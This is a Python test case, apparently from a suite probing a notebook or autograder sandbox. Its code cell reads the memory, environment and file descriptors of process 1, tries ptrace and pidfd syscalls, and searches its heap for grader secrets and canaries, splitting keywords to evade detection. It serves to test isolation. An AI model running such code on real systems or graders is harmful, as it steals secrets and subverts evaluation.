"""Reads the memory of the process that it was forked from, and of its own, for secrets."""

from attacks.kit import Earns

OUTCOME = Earns(10)
CELLS = (
    """
import ctypes
import glob
import os

for path in ("/proc/1/mem", "/proc/1/maps", "/proc/1/environ", *glob.glob("/proc/1/fd/*")):
    try:
        print("STO" "LEN", path, len(open(path, "rb").read(100)))
    except OSError as error:
        print(error)
libc = ctypes.CDLL(None, use_errno=True)
print(libc.ptrace(16, 1, 0, 0), libc.syscall(438, libc.syscall(434, 1, 0), 3, 0))
for line in open("/proc/self/maps"):
    if "[heap]" in line:
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        heap = ctypes.string_at(start, min(end - start, 2**24))
        for word in (b"CAN" b"ARY", b"assert_" b"values", b"course_" b"secret"):
            place = heap.find(word)
            if place >= 0 and heap.find(b"find(word", place - 3000, place + 3000) < 0:
                print(heap[place : place + 60])
""",
)
